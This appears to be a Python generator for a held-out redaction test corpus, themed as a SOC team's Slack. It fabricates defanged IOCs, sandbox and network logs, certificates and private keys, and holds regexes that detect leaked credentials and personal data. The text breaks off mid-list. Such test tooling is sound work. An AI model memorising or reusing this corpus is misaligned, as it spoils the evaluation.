#!/usr/bin/env python3
# -*- coding: utf-8 -*-
"""Held-out redaction corpus #29. Theme: the Slack of a SOC / incident-response team.

Writes redaction29_negatives.jsonl (600 texts, 100 per category) and
redaction29_positives.jsonl (150 texts, 170 labelled secrets) next to this file.
Standard library only. random.Random(2929). Two runs give byte-identical output.
Run: python3 gen.py
"""
import base64
import datetime
import hashlib
import io
import ipaddress
import json
import os
import random
import re
import string
import struct
import sys
import zipfile
import zlib

SEED = 2929
N = 29
R = random.Random(SEED)
HERE = os.path.dirname(os.path.abspath(__file__))

# =============================================================== basic helpers
HEXL = "0123456789abcdef"
HEXU = "0123456789ABCDEF"
DIG = string.digits
UP = string.ascii_uppercase
LO = string.ascii_lowercase
ALNUM = string.ascii_letters + string.digits
B62 = string.digits + string.ascii_uppercase + string.ascii_lowercase
B64C = string.ascii_letters + string.digits + "+/"
B64U = string.ascii_letters + string.digits + "-_"
B32U = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
B32L = B32U.lower()


def pick(seq):
    return seq[R.randrange(len(seq))]


def chance(p):
    return R.random() < p


def rs(alpha, n):
    return "".join(alpha[R.randrange(len(alpha))] for _ in range(n))


def hexs(n, upper=False):
    return rs(HEXU if upper else HEXL, n)


def rbytes(n):
    return bytes(R.getrandbits(8) for _ in range(n))


def b64(b):
    return base64.b64encode(b).decode()


def b64url(b):
    return base64.urlsafe_b64encode(b).decode().rstrip("=")


def sample(seq, k):
    return R.sample(list(seq), k)


def uuid4(upper=False):
    h = list(hexs(32))
    h[12] = "4"
    h[16] = pick("89ab")
    s = "".join(h)
    s = "%s-%s-%s-%s-%s" % (s[:8], s[8:12], s[12:16], s[16:20], s[20:])
    return s.upper() if upper else s


T0 = datetime.datetime(2025, 1, 6, 0, 0, 0)
EPOCH = datetime.datetime(1970, 1, 1)


def rtime(days=480):
    return T0 + datetime.timedelta(seconds=R.randrange(days * 86400), microseconds=R.randrange(1000000))


def iso(t, ms=True):
    return t.strftime("%Y-%m-%dT%H:%M:%S") + (".%03d" % (t.microsecond // 1000) if ms else "") + "Z"


def sp(t):
    return t.strftime("%Y-%m-%d %H:%M:%S")


def epoch(t):
    return int((t - EPOCH).total_seconds())


def luhn_ok(d):
    tot = 0
    for i, ch in enumerate(reversed(d)):
        x = ord(ch) - 48
        if i % 2 == 1:
            x *= 2
            if x > 9:
                x -= 9
        tot += x
    return tot % 10 == 0


def nonluhn(d):
    """Bump the last digit of a 13-19 digit id if it happens to be Luhn-valid."""
    if 13 <= len(d) <= 19 and luhn_ok(d):
        d = d[:-1] + str((int(d[-1]) + 1) % 10)
    return d


def rdigits(n):
    return pick("123456789") + rs(DIG, n - 1)


DEPTS = ["FIN", "HR", "ENG", "OPS", "LEG", "MKT", "IT", "SOC", "SAL", "RND", "PAY", "CS"]


def win_host():
    return "%s-%s-%04d" % (pick(["WS", "LT", "VDI", "SRV", "FS", "SQL", "APP", "DC", "JMP", "EXCH"]), pick(DEPTS), R.randint(1, 9999))


def lin_host():
    return "%s-%s-%02d" % (pick(["web", "api", "bastion", "k8s-node", "db", "build", "vpn", "mail", "proxy", "jump"]),
                           pick(["prod", "stg", "dev", "dmz", "eu1", "us2"]), R.randint(1, 40))


def host():
    return win_host() if chance(0.6) else lin_host()


def priv_ip():
    k = R.random()
    if k < 0.5:
        return "10.%d.%d.%d" % (R.randint(0, 255), R.randint(0, 255), R.randint(1, 254))
    if k < 0.75:
        return "172.%d.%d.%d" % (R.randint(16, 31), R.randint(0, 255), R.randint(1, 254))
    return "192.168.%d.%d" % (R.randint(0, 255), R.randint(1, 254))


def doc_ip():
    return "%s.%d" % (pick(["192.0.2", "198.51.100", "203.0.113"]), R.randint(1, 254))


def defang_ip(ip):
    m = R.random()
    a, b = ip.rsplit(".", 1)
    if m < 0.5:
        return a + "[.]" + b
    if m < 0.8:
        return ip.replace(".", "[.]")
    return ip


BAD_W1 = ["login", "secure", "verify", "update", "cdn", "office", "docs", "share", "invoice", "portal", "auth", "sso",
          "account", "cloud", "sync", "drive", "mail", "webmail", "helpdesk", "payroll", "benefits", "m365", "onedrive",
          "teams", "wallet", "track", "parcel", "delivery", "tax", "refund"]
BAD_W2 = ["check", "center", "service", "online", "access", "review", "notice", "storage", "files", "gateway", "support",
          "session", "confirm", "status", "hub", "app", "now", "direct", "web", "team"]
TLDS = ["top", "xyz", "shop", "click", "online", "live", "site", "info", "cfd", "sbs", "icu", "buzz", "rest", "quest",
        "lol", "cyou"]


def bad_domain():
    d = "%s-%s" % (pick(BAD_W1), pick(BAD_W2))
    if chance(0.35):
        d += str(R.randint(2, 99))
    if chance(0.25):
        d = pick(["cdn", "api", "static", "img", "m", "portal", "files"]) + "." + d
    return d + "." + pick(TLDS)


def defang_dom(d):
    if chance(0.7):
        i = d.rfind(".")
        return d[:i] + "[.]" + d[i + 1:]
    return d.replace(".", "[.]")


URL_PATHS = ["/", "/owa/auth.php", "/wp-content/plugins/a.php", "/gate.php", "/api/v2/check", "/dl/inv.zip", "/index.html",
             "/login/common/oauth2", "/cgi-bin/r.cgi", "/panel/upload.php", "/jquery-3.3.1.min.js", "/submit.php"]


def defang_url(d, path=None):
    path = path or (pick(URL_PATHS) if chance(0.8) else "/s/" + rs(ALNUM, 8))
    return pick(["hxxps[:]//", "hxxp[:]//", "hxxps://", "hXXps://", "hxxp://"]) + defang_dom(d) + path


FAMILIES = ["QakBot", "IcedID", "Emotet", "AsyncRAT", "RedLine", "LummaC2", "Raccoon", "Vidar", "StealC", "Cobalt Strike",
            "Sliver", "Havoc", "Brute Ratel", "PikaBot", "DarkGate", "SocGholish", "Latrodectus", "Remcos", "NjRAT",
            "Formbook", "XWorm", "BumbleBee", "Mythic", "GootLoader"]
MAL_FILES = ["Invoice_%d.pdf.lnk", "update_%d.dll", "setup_x64_%d.msi", "scan_%d.iso", "payload_%d.bin", "doc_%d.one",
             "Remittance_%d.html", "PO-%d.xlsm", "statement_%d.js", "rundll_helper_%d.dll", "Teams_Installer_%d.exe",
             "Zoom_%d.msix", "report_%d.vbs", "README_%d.hta", "chrome_update_%d.zip"]


def mal_file():
    return pick(MAL_FILES) % R.randint(100, 99999)


def inc():
    return "INC%07d" % R.randint(10000, 99999)


def tlp():
    return pick(["TLP:AMBER", "TLP:GREEN", "TLP:CLEAR", "TLP:AMBER+STRICT", "TLP:RED"])


# =============================================================== DER / binary builders
def der_len(n):
    if n < 128:
        return bytes([n])
    b = n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes([0x80 | len(b)]) + b


def tlv(tag, body):
    return bytes([tag]) + der_len(len(body)) + body


def der_int(i):
    return tlv(2, i.to_bytes(max(1, (i.bit_length() + 8) // 8), "big"))


def der_seq(*xs):
    return tlv(0x30, b"".join(xs))


def der_set(*xs):
    return tlv(0x31, b"".join(xs))


def der_oct(b):
    return tlv(4, b)


def der_bits(b):
    return tlv(3, b"\x00" + b)


def der_null():
    return b"\x05\x00"


def der_utf8(s):
    return tlv(0x0C, s.encode())


def der_utc(t):
    return tlv(0x17, t.strftime("%y%m%d%H%M%SZ").encode())


def der_oid(s):
    p = [int(x) for x in s.split(".")]
    body = bytes([40 * p[0] + p[1]])
    for v in p[2:]:
        enc = [v & 0x7F]
        v >>= 7
        while v:
            enc.append(0x80 | (v & 0x7F))
            v >>= 7
        body += bytes(reversed(enc))
    return tlv(6, body)


def der_name(cn, o=None):
    rdns = []
    if o:
        rdns.append(der_set(der_seq(der_oid("2.5.4.10"), der_utf8(o))))
    rdns.append(der_set(der_seq(der_oid("2.5.4.3"), der_utf8(cn))))
    return der_seq(*rdns)


def wrap(s, width=64):
    return [s[i:i + width] for i in range(0, len(s), width)]


def rand_odd(bits):
    return R.getrandbits(bits) | (1 << (bits - 1)) | 1


def spki_ed25519():
    return der_seq(der_seq(der_oid("1.3.101.112")), der_bits(rbytes(32)))


def spki_p256():
    return der_seq(der_seq(der_oid("1.2.840.10045.2.1"), der_oid("1.2.840.10045.3.1.7")), der_bits(b"\x04" + rbytes(64)))


def spki_rsa(bits=2048):
    return der_seq(der_seq(der_oid("1.2.840.113549.1.1.1"), der_null()),
                   der_bits(der_seq(der_int(rand_odd(bits)), der_int(65537))))


def fake_cert_der(cn, issuer_cn, issuer_o):
    nb = rtime()
    na = nb + datetime.timedelta(days=pick([90, 365, 397]))
    spki = spki_p256() if chance(0.6) else spki_ed25519()
    tbs = der_seq(tlv(0xA0, der_int(2)), der_int(R.getrandbits(126) | (1 << 120)),
                  der_seq(der_oid("1.2.840.10045.4.3.2")), der_name(issuer_cn, issuer_o),
                  der_seq(der_utc(nb), der_utc(na)), der_name(cn), spki)
    sig = der_seq(der_int(R.getrandbits(256)), der_int(R.getrandbits(256)))
    return der_seq(tbs, der_seq(der_oid("1.2.840.10045.4.3.2")), der_bits(sig)), nb, na


def ssh_str(b):
    return struct.pack(">I", len(b)) + b


def ssh_mpint(i):
    return ssh_str(i.to_bytes((i.bit_length() + 8) // 8, "big"))


def ssh_ed25519_pub():
    return b64(ssh_str(b"ssh-ed25519") + ssh_str(rbytes(32)))


def ssh_rsa_pub(bits=3072):
    return b64(ssh_str(b"ssh-rsa") + ssh_mpint(65537) + ssh_mpint(rand_odd(bits)))


def ssh_fp(blob_b64):
    return "SHA256:" + b64(hashlib.sha256(base64.b64decode(blob_b64)).digest()).rstrip("=")


def crc24(data):
    crc = 0xB704CE
    for byte in data:
        crc ^= byte << 16
        for _ in range(8):
            crc <<= 1
            if crc & 0x1000000:
                crc ^= 0x1864CFB
    return crc & 0xFFFFFF


def pgp_pub_block(uid_text):
    t = struct.pack(">I", epoch(rtime()))
    key = b"\x04" + t + b"\x16" + b"\x09\x2b\x06\x01\x04\x01\xda\x47\x0f\x01" + b"\x01\x07\x40" + rbytes(32)
    pk = b"\x98" + bytes([len(key)]) + key
    uid = uid_text.encode()
    up = b"\xb4" + bytes([len(uid)]) + uid
    sigbody = b"\x04\x13\x16\x08" + rbytes(R.randint(110, 130))
    sg = b"\x88" + bytes([len(sigbody)]) + sigbody
    data = pk + up + sg
    fpr = hashlib.sha1(b"\x99" + struct.pack(">H", len(key)) + key).hexdigest().upper()
    armored = ("-----BEGIN PGP PUBLIC KEY BLOCK-----\n\n" + "\n".join(wrap(b64(data))) + "\n=" +
               b64(crc24(data).to_bytes(3, "big")) + "\n-----END PGP PUBLIC KEY BLOCK-----")
    return armored, fpr


def png_bytes(w, h):
    c1 = bytes(rbytes(3))
    c2 = bytes(rbytes(3))
    mode = R.randrange(3)
    rows = []
    for y in range(h):
        row = bytearray(b"\x00")
        for x in range(w):
            if mode == 0:
                on = ((x // 4) + (y // 4)) % 2 == 0
            elif mode == 1:
                on = x < w * (y + 1) // h
            else:
                on = R.random() < 0.5
            row += c1 if on else c2
        rows.append(bytes(row))
    raw = b"".join(rows)

    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b""))


def png_b64(lo=4, hi=20):
    return b64(png_bytes(R.randint(lo, hi), R.randint(lo, hi)))


def gif_b64():
    c = rbytes(3)
    return b64(b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + c + b"\xff\xff\xff" +
               b"!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")


def ico_b64():
    p = png_bytes(16, 16)
    hdr = b"\x00\x00\x01\x00\x01\x00" + struct.pack("<BBBBHHII", 16, 16, 0, 0, 1, 32, len(p), 22)
    return b64(hdr + p)


def jpeg_b64(nbody):
    hdr = bytes.fromhex("FFD8FFE000104A46494600010100000100010000FFDB004300")
    return b64(hdr + rbytes(nbody) + b"\xff\xd9")


def woff2_b64(n):
    return b64(b"wOF2\x00\x01\x00\x00" + struct.pack(">I", n + 48) + b"\x00\x0e" + rbytes(n))


def tiny_zip(name, text):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        zi = zipfile.ZipInfo(name, date_time=(2025, 3, 4, 9, 12, 0))
        zi.compress_type = zipfile.ZIP_DEFLATED
        zi.create_system = 0
        z.writestr(zi, text)
    return buf.getvalue()


def mini_pdf(text):
    stream = ("BT /F1 12 Tf 20 50 Td (%s) Tj ET" % text).encode()
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 100] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
            b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    out = b"%PDF-1.4\n"
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += ("%d 0 obj\n" % i).encode() + o + b"\nendobj\n"
    x = len(out)
    out += ("xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)).encode()
    out += b"".join(("%010d 00000 n \n" % o).encode() for o in offs)
    out += ("trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, x)).encode()
    return out


# ----- private keys (positives only)
SMALL_PRIMES = [p for p in range(3, 2000) if all(p % q for q in range(2, int(p ** 0.5) + 1))]


def is_probable_prime(n):
    for p in SMALL_PRIMES:
        if n % p == 0:
            return n == p
    d, s = n - 1, 0
    while d % 2 == 0:
        d //= 2
        s += 1
    for _ in range(20):
        a = R.randrange(2, n - 2)
        x = pow(a, d, n)
        if x in (1, n - 1):
            continue
        for _ in range(s - 1):
            x = pow(x, 2, n)
            if x == n - 1:
                break
        else:
            return False
    return True


def gen_prime(bits):
    while True:
        c = R.getrandbits(bits) | (1 << (bits - 1)) | (1 << (bits - 2)) | 1
        if is_probable_prime(c):
            return c


def rsa_pkcs1(bits=2048):
    e = 65537
    while True:
        p, q = gen_prime(bits // 2), gen_prime(bits // 2)
        if p != q and (p - 1) % e and (q - 1) % e:
            break
    n = p * q
    d = pow(e, -1, (p - 1) * (q - 1))
    return der_seq(der_int(0), der_int(n), der_int(e), der_int(d), der_int(p), der_int(q),
                   der_int(d % (p - 1)), der_int(d % (q - 1)), der_int(pow(q, -1, p)))


P256_P = 2 ** 256 - 2 ** 224 + 2 ** 192 + 2 ** 96 - 1
P256_N = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
P256_G = (0x6B17D1F2E12C4247F8BCE6E563A440F277037D812DEB33A0F4A13945D898C296,
          0x4FE342E2FE1A7F9B8EE7EB4A7C0F9E162BCE33576B315ECECBB6406837BF51F5)


def ec_add(P, Q):
    if P is None:
        return Q
    if Q is None:
        return P
    p = P256_P
    if P[0] == Q[0] and (P[1] + Q[1]) % p == 0:
        return None
    if P == Q:
        lam = (3 * P[0] * P[0] - 3) * pow(2 * P[1], -1, p) % p
    else:
        lam = (Q[1] - P[1]) * pow(Q[0] - P[0], -1, p) % p
    x = (lam * lam - P[0] - Q[0]) % p
    return (x, (lam * (P[0] - x) - P[1]) % p)


def ec_mul(k, P):
    acc = None
    while k:
        if k & 1:
            acc = ec_add(acc, P)
        P = ec_add(P, P)
        k >>= 1
    return acc


def ec_sec1():
    d = R.randrange(1, P256_N)
    X, Y = ec_mul(d, P256_G)
    pub = b"\x04" + X.to_bytes(32, "big") + Y.to_bytes(32, "big")
    return der_seq(der_int(1), der_oct(d.to_bytes(32, "big")), tlv(0xA0, der_oid("1.2.840.10045.3.1.7")),
                   tlv(0xA1, der_bits(pub)))


def ed25519_pkcs8():
    return der_seq(der_int(0), der_seq(der_oid("1.3.101.112")), der_oct(der_oct(rbytes(32))))


def rsa_pkcs8(bits=2048):
    return der_seq(der_int(0), der_seq(der_oid("1.2.840.113549.1.1.1"), der_null()), der_oct(rsa_pkcs1(bits)))


def openssh_ed25519(comment):
    pub = rbytes(32)
    seed = rbytes(32)
    pubblob = ssh_str(b"ssh-ed25519") + ssh_str(pub)
    chk = rbytes(4)
    priv = chk + chk + ssh_str(b"ssh-ed25519") + ssh_str(pub) + ssh_str(seed + pub) + ssh_str(comment.encode())
    i = 1
    while len(priv) % 8:
        priv += bytes([i])
        i += 1
    return (b"openssh-key-v1\x00" + ssh_str(b"none") + ssh_str(b"none") + ssh_str(b"") + struct.pack(">I", 1) +
            ssh_str(pubblob) + ssh_str(priv))


def gen_private_key(kind):
    """Returns (label, body_lines)."""
    if kind == "rsa":
        return "RSA PRIVATE KEY", wrap(b64(rsa_pkcs1(2048)), 64)
    if kind == "ec":
        return "EC PRIVATE KEY", wrap(b64(ec_sec1()), 64)
    if kind == "ed25519":
        return "PRIVATE KEY", wrap(b64(ed25519_pkcs8()), 64)
    if kind == "rsa8":
        return "PRIVATE KEY", wrap(b64(rsa_pkcs8(2048)), 64)
    return "OPENSSH PRIVATE KEY", wrap(b64(openssh_ed25519(pick(["deploy", "backup-sync", "ci-runner", "tmp", ""]))), 70)


# =============================================================== scanner
EMAIL_RE = re.compile(r"[A-Za-z0-9._%+\-]+@[A-Za-z0-9\-]+(?:\.[A-Za-z0-9\-]+)*\.[A-Za-z]{2,}")
GH_RE = re.compile(r"gh[pousr]_[A-Za-z0-9]{20,}|github_pat_[A-Za-z0-9_]{20,}")
SLACK_RE = re.compile(r"xox[a-z]-\d+-[A-Za-z0-9\-]+|xapp-\d-[A-Za-z0-9\-]{10,}")
SK_RE = re.compile(r"sk-(?:ant-|proj-|svcacct-|admin-)?[A-Za-z0-9_\-]{20,}")
AWS_RE = re.compile(r"(?<![A-Z0-9])(?:AKIA|ASIA)[A-Z0-9]{16}(?![A-Z0-9])")
AWS_SECRET_RE = re.compile(r"(?<![A-Za-z0-9/+])[A-Za-z0-9/+]{40}(?![A-Za-z0-9/+=])")
JWT_RE = re.compile(r"eyJ[A-Za-z0-9_\-]+\.eyJ[A-Za-z0-9_\-]+\.[A-Za-z0-9_\-]*")
PEM_RE = re.compile(r"-----BEGIN [A-Z0-9 ]*PRIVATE KEY-----(?:\\n|\s)*[A-Za-z0-9+/=]{16,}")
SSN_RE = re.compile(r"(?<![\d\-])\d{3}([\- ])\d{2}\1\d{4}(?![\d\-])")
PHONE_INTL_RE = re.compile(r"(?<![\w+])\+\d{1,3}(?:[ .\-]?\(?\d{1,4}\)?){2,6}")
PHONE_US_RE = re.compile(r"(?<![\d.\-])(?:\(\d{3}\)\s?|\d{3}[.\- ])\d{3}[.\- ]\d{4}(?![\d.\-])")
DIGGRP_RE = re.compile(r"\d+(?:[ \-]\d+)*")
SEP = r"(?:\.|\[\.\]|\(\.\)|\[dot\])"
IP_RE = re.compile(r"(?<![\d.])(\d{1,3})" + SEP + r"(\d{1,3})" + SEP + r"(\d{1,3})" + SEP + r"(\d{1,3})(?!\d)(?!\.\d)")
IBAN_LEN = {"AD": 24, "AT": 20, "BE": 16, "BG": 22, "CH": 21, "CY": 28, "CZ": 24, "DE": 22, "DK": 18, "EE": 20,
            "ES": 24, "FI": 18, "FR": 27, "GB": 22, "GR": 27, "HR": 21, "HU": 28, "IE": 22, "IS": 26, "IT": 27,
            "LI": 21, "LT": 20, "LU": 20, "LV": 21, "MC": 27, "MT": 31, "NL": 18, "NO": 15, "PL": 28, "PT": 25,
            "RO": 24, "SE": 24, "SI": 19, "SK": 24, "SM": 27, "TR": 26, "UA": 29, "SA": 24, "AE": 23, "BR": 29}
IBAN_RE = re.compile(r"(?<![A-Za-z0-9])([A-Z]{2})(\d{2})((?:[ ]?[A-Z0-9]){8,32})")

ALLOWED_AWS = {"AKIAIOSFODNN7EXAMPLE", "AKIAI44QH8DHBEXAMPLE", "ASIAIOSFODNN7EXAMPLE"}
ALLOWED_CARDS = {"4242424242424242"}
ALLOWED_IBANS = {"DE89370400440532013000", "GB82WEST12345698765432"}


def iban_valid(s):
    s = s.replace(" ", "")
    r = s[4:] + s[:4]
    num = "".join(str(int(c, 36)) for c in r)
    return int(num) % 97 == 1


def luhn_hits(text):
    hits = []
    for m in DIGGRP_RE.finditer(text):
        groups = re.split(r"[ \-]", m.group())
        for i in range(len(groups)):
            tot = ""
            for j in range(i, len(groups)):
                tot += groups[j]
                if len(tot) > 19:
                    break
                if len(tot) >= 13 and luhn_ok(tot):
                    hits.append(tot)
    return hits


def public_ips(text):
    out = []
    for m in IP_RE.finditer(text):
        octs = [int(x) for x in m.groups()]
        if max(octs) > 255:
            continue
        ip = ipaddress.ip_address(".".join(str(o) for o in octs))
        if ip.is_global and not ip.is_multicast:
            out.append(m.group())
    return out


def scan(text):
    """Return a list of (rule, match) for everything that looks like a secret or PII."""
    hits = []
    for m in EMAIL_RE.finditer(text):
        hits.append(("email", m.group()))
    for rx, name in ((GH_RE, "github"), (SLACK_RE, "slack"), (SK_RE, "sk_key"), (JWT_RE, "jwt"), (PEM_RE, "pem")):
        for m in rx.finditer(text):
            hits.append((name, m.group()))
    for m in AWS_RE.finditer(text):
        if m.group() not in ALLOWED_AWS:
            hits.append(("aws_key_id", m.group()))
    for m in SSN_RE.finditer(text):
        hits.append(("ssn_shape", m.group()))
    for m in PHONE_INTL_RE.finditer(text):
        if sum(c.isdigit() for c in m.group()) >= 8:
            hits.append(("phone_intl", m.group()))
    for m in PHONE_US_RE.finditer(text):
        hits.append(("phone_us", m.group()))
    for h in luhn_hits(text):
        if h not in ALLOWED_CARDS:
            hits.append(("luhn", h))
    for m in IBAN_RE.finditer(text):
        cc = m.group(1)
        if cc not in IBAN_LEN:
            continue
        compact = (m.group(1) + m.group(2) + m.group(3)).replace(" ", "")
        L = IBAN_LEN[cc]
        if len(compact) >= L and iban_valid(compact[:L]) and compact[:L] not in ALLOWED_IBANS:
            hits.append(("iban", compact[:L]))
    for ip in public_ips(text):
        hits.append(("public_ipv4", ip))
    return hits


def aws_secret_shapes(text):
    """40-char base64 runs; informational only (many public blobs have this shape)."""
    return [m.group() for m in AWS_SECRET_RE.finditer(text) if "EXAMPLEKEY" not in m.group()]

# =============================================================== shared chat furniture
LEADINS = {
    "en": ["fyi", "heads up:", "from the night shift:", "for the handover:", "quick one —", "ok so", "pasting from the ticket:",
           "context for T2:", "for the record:", "re the 03:00 page:"],
    "de": ["Zur Info:", "Übergabe an die Frühschicht:", "kurz zur Einordnung:", "aus dem Ticket kopiert:"],
    "fr": ["Pour info :", "Passation de l'équipe de nuit :", "extrait du ticket :"],
    "es": ["Para que conste:", "Traspaso del turno de noche:", "ojo con esto:"],
    "pt": ["Para registo:", "Passagem de turno:", "segue o trecho:"],
    "nl": ["Ter info:", "Overdracht nachtdienst:"],
    "pl": ["Dla informacji:", "Przekazanie zmiany:"],
    "it": ["Per info:", "Passaggio di consegne:"],
    "ja": ["共有です:", "夜勤からの引き継ぎ:", "チケットから転記:"],
    "ru": ["К сведению:", "Передача смены:", "из тикета:"],
    "zh": ["供参考：", "夜班交接：", "从工单里复制的："],
    "ko": ["참고:", "야간 근무 인수인계:"],
}
TRAILERS = ["thoughts?", "will update the ticket", "no action needed from T1", "closing as benign", "→ escalating to T2",
            "見ておきます", "закрываю как FP", "ich schau morgen nochmal drauf", "je regarde demain", "lo reviso mañana",
            "cc @ir-oncall", "+1", "🔍", "👀", "dzięki", "grazie", "obrigado", "bedankt", "감사합니다", "收到"]
LANG_KEYS = list(LEADINS.keys())


def leadin():
    return pick(LEADINS[pick(LANG_KEYS)])


def decorate(text, p_lead=0.13, p_trail=0.06):
    if chance(p_lead):
        li = leadin()
        text = li + ("\n" if "\n" in text or chance(0.4) else " ") + text
    if chance(p_trail):
        text = text + ("\n" if chance(0.5) or text.endswith("```") else " ") + pick(TRAILERS)
    return text


def fence(body, lang=""):
    return "```" + lang + "\n" + body + "\n```"


# =============================================================== NEGATIVES: non_credential_blob
def nb_hash_table():
    fam = pick(FAMILIES)
    rows = []
    for _ in range(R.randint(3, 9)):
        rows.append("| %s | %s | %s |" % (mal_file(), hexs(64), hexs(32)))
    return ("IOC list for %s (%s, %s) — hashes only, network IOCs are in the other thread\n"
            "| file | sha256 | md5 |\n|---|---|---|\n%s" % (inc(), fam, tlp(), "\n".join(rows)))


def nb_sandbox_json():
    d = {"sha256": hexs(64), "sha1": hexs(40), "md5": hexs(32),
         "ssdeep": "%d:%s:%s" % (pick([1536, 3072, 6144, 12288, 24576]), rs(B64C, R.randint(30, 60)), rs(B64C, R.randint(12, 40))),
         "imphash": hexs(32), "tlsh": "T1" + hexs(70, True),
         "file_type": pick(["PE32 executable (DLL) (GUI) Intel 80386, for MS Windows", "PE32+ executable (GUI) x86-64, for MS Windows",
                            "MS Windows shortcut", "Composite Document File V2 Document", "Zip archive data, at least v2.0 to extract"]),
         "size": R.randint(20000, 9000000), "verdict": "malicious", "score": R.randint(7, 10), "family": pick(FAMILIES),
         "mutexes": ["Global\\{%s}" % uuid4(True)] + (["Local\\" + rs(ALNUM, 12)] if chance(0.5) else []),
         "dropped": [{"path": "C:\\Users\\Public\\%s" % pick(["Libraries\\", "Documents\\", ""]) + rs(LO, 8) + pick([".dll", ".exe", ".dat"]),
                      "sha256": hexs(64)} for _ in range(R.randint(1, 3))],
         "network": {"dns": [defang_dom(bad_domain()) for _ in range(R.randint(1, 3))], "hosts": [defang_ip(doc_ip())]}}
    return pick(["sandbox report summary:", "detonation result (triage):", "Sandbox JSON for the attachment:", "サンドボックスの結果:"]) + "\n" + fence(json.dumps(d, indent=2, ensure_ascii=False), "json")


def nb_ssh_fp():
    h = lin_host()
    lines = ["$ for f in /etc/ssh/ssh_host_*_key.pub; do ssh-keygen -lf \"$f\"; done"]
    for algo, bits, blob in (("ECDSA", 256, None), ("ED25519", 256, ssh_ed25519_pub()), ("RSA", 3072, None)):
        blob = blob or b64(rbytes(R.randint(100, 400)))
        lines.append("%d %s root@%s (%s)" % (bits, ssh_fp(blob), h, algo))
    return pick(["host keys on %s before reimage, for comparison after:" % h, "fingerprints from the golden image vs %s:" % h]) + "\n" + fence("\n".join(lines))


def nb_authorized_keys():
    h = lin_host()
    blob = ssh_ed25519_pub() if chance(0.6) else ssh_rsa_pub(pick([2048, 3072]))
    algo = "ssh-ed25519" if blob.startswith("AAAAC3") else "ssh-rsa"
    cmt = pick(["", " deploy", " ops-tmp", " backup", " ansible"])
    t = rtime()
    return ("persistence on %s: attacker appended a key to /root/.ssh/authorized_keys at %s (mtime from the timeline)\n"
            "%s\n%s %s%s\n%s\nfingerprint: %s — adding to the IOC sheet, key removed, host going to reimage" %
            (h, iso(t, False), "```", algo, blob, cmt, "```", ssh_fp(blob)))


def nb_pgp():
    armored, fpr = pgp_pub_block(pick(["CERT Incident Notifications (signing)", "PSIRT advisory signing key 2025", "Threat intel sharing key"]))
    fp = " ".join(fpr[i:i + 4] for i in range(0, 40, 4))
    return ("%s\nFingerprint: %s\n%s" % (pick(["the national CERT rotated their signing key, here's the new public key so the advisory verification job keeps working:",
                                            "public key for verifying the PSIRT advisories (published on their site, safe to share):"]), fp, fence(armored)))


def nb_cert():
    dom = bad_domain()
    der, nb, na = fake_cert_der(dom, pick(["R11", "E6", "R10", "E5", "GTS CA 1P5"]), pick(["Let's Encrypt", "Google Trust Services"]))
    fp = ":".join(hashlib.sha256(der).hexdigest().upper()[i:i + 2] for i in range(0, 64, 2))
    body = "\n".join(wrap(b64(der)))
    return ("cert served by the phishing site %s (pulled from CT + live TLS):\n```\nsubject=CN = %s\nnotBefore=%s GMT\nnotAfter=%s GMT\n"
            "sha256 Fingerprint=%s\n-----BEGIN CERTIFICATE-----\n%s\n-----END CERTIFICATE-----\n```" %
            (defang_dom(dom), dom, nb.strftime("%b %d %H:%M:%S %Y"), na.strftime("%b %d %H:%M:%S %Y"), fp, body))


def zeek_uid():
    return "C" + rs(ALNUM, 17)


def nb_zeek_ssl():
    lines = ["#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tversion\tserver_name\tja3\tja3s"]
    for _ in range(R.randint(4, 12)):
        t = rtime()
        lines.append("%d.%06d\t%s\t%s\t%d\t%s\t443\tTLSv1%s\t%s\t%s\t%s" % (
            epoch(t), t.microsecond, zeek_uid(), priv_ip(), R.randint(49152, 65535), doc_ip(), pick(["2", "3"]),
            defang_dom(bad_domain()), hexs(32), hexs(32)))
    return "ssl.log around the beacon window, same JA3 on every host — " + pick(["looks like the same loader", "cluster it?", "matches the TI report"]) + "\n" + fence("\n".join(lines))


def nb_suricata_eve():
    t = rtime()
    ev = {"timestamp": t.strftime("%Y-%m-%dT%H:%M:%S.%f") + "+0000", "flow_id": int(nonluhn(rdigits(pick([15, 16])))),
          "in_iface": pick(["ens192", "eth1", "bond0"]), "event_type": "alert", "src_ip": priv_ip(), "src_port": R.randint(49152, 65535),
          "dest_ip": doc_ip(), "dest_port": pick([443, 80, 8443, 8080]), "proto": "TCP",
          "community_id": "1:" + b64(rbytes(20)),
          "alert": {"action": "allowed", "gid": 1, "signature_id": R.randint(2030000, 2059999), "rev": R.randint(1, 6),
                    "signature": "ET MALWARE %s CnC Checkin" % pick(FAMILIES), "category": "A Network Trojan was detected", "severity": 1},
          "http": {"hostname": defang_dom(bad_domain()), "url": pick(URL_PATHS), "http_user_agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
                   "status": 200, "length": R.randint(100, 90000)}}
    return fence(json.dumps(ev, indent=2), "json")


def nb_gitlog():
    msgs = ["sigma: tune proc_creation_win_lsass_dump FP on backup agent", "yara: add %s loader strings" % pick(FAMILIES),
